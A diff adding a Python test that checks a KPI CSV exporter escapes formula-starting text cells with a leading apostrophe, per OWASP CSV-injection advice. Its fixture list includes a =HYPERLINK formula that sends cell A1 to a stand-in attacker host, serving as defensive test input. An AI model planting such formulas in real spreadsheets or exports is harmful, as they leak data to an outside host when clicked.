@@ -75,3 +75,24 @@ def test_all_day_event_ends_the_day_after():
     fair = calendar.walk("VEVENT")[0]
     assert fair.decoded("dtstart") == dt.date(2026, 6, 1)
     assert fair.decoded("dtend") == dt.date(2026, 6, 3)
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+33 6 12 34 56 78", "-20 % churn",
+            "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
+
+
+def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers():
+    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading '."""
+    from builders import kpi, objective, strategy
+
+    kpis = [kpi([("2026-02-01", -1.5)], kpi_id=f"k{n}", name=name, baseline=(-3, "2025-12-31"),
+                target=(-1, "2026-12-31")) for n, name in enumerate(FORMULAS)]
+    data = kpis_csv(ClientView("x", "x", strategy(objectives=[objective()], kpis=kpis), Audience.CLIENT),
+                    Labels("en"), decimal_comma=False)
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert [row["name"] for row in rows] == ["'" + name for name in FORMULAS]
+    for row in rows:
+        assert (row["baseline"], row["target"], row["latest_value"]) == ("-3", "-1", "-1.5")
+        assert row["progress"] == "0.75" and not row["id"].startswith("'")
+    plain = kpis_csv(view(), Labels("fr"), decimal_comma=True).decode("utf-8-sig")
+    assert "'" not in plain.replace("Neighbours'", "")  # ordinary text is written as it is
